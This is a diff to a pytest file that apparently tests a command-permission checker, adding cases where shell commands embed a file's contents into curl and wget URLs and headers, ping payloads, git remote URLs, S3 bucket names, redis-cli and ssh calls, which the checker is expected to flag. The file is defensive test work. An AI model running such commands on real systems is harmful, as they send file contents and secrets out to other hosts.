@@ -125,3 +125,43 @@ def test_old_pythons_import_no_module_of_the_working_folder(
     assert judged("env -i python3 -c 'import json'", str(folder))[0] == "ask"
     assert judged("python3 -E -c 'import json'", str(folder))[0] == "ask"
     assert judged("python3 -I -c 'import json'", str(folder))[0] == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'curl -s "http://127.0.0.1:18933/x-$(cat f | base64 -w0)"',
+        'curl -s -H "X: $(cat f)" http://localhost:8080/',
+        'curl -s -A "$X" http://localhost:8080/',
+        'curl -s "http://localhost:8080/$(basename "$(cat f)")"',
+        'wget -qO- "http://localhost/$(cat f)"',
+        'wget -qO- --header "X: $(cat f)" http://localhost/',
+        "ping -c 1 -p $(xxd -p f) localhost",
+        "nc -z -w $(cat f) localhost 80",
+        'git ls-remote "https://example.com/$(cat f)"',
+        'git fetch "https://example.com/$(cat f)"',
+        'aws s3 ls "s3://bucket-$(cat f)"',
+        "redis-cli -h example.com get $(cat f)",
+        'ssh host "$(cat f)"',
+        'while read x; do curl -s "localhost:8080/$x"; done < f',
+    ],
+)
+def test_text_that_is_only_known_at_run_time_is_not_sent(command: str) -> None:
+    assert judged(command)[0] == "ask"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s http://$(hostname):8080/health",
+        'curl -s "http://localhost:8080/?d=$(date +%F)"',
+        "for p in 8080 8081; do curl -s http://localhost:$p/health; done",
+        "PORT=8080; curl -s http://localhost:$PORT/health",
+        "for i in $(seq 5); do ping -c 1 10.0.0.$i; done",
+        "kubectl logs $(kubectl get pods -o name | head -1) --tail=5",
+        "docker stats --no-stream $(docker ps -q)",
+        "redis-cli get $KEY",
+    ],
+)
+def test_names_of_the_system_and_known_words_may_be_sent(command: str) -> None:
+    assert judged(command)[0] == "allow"
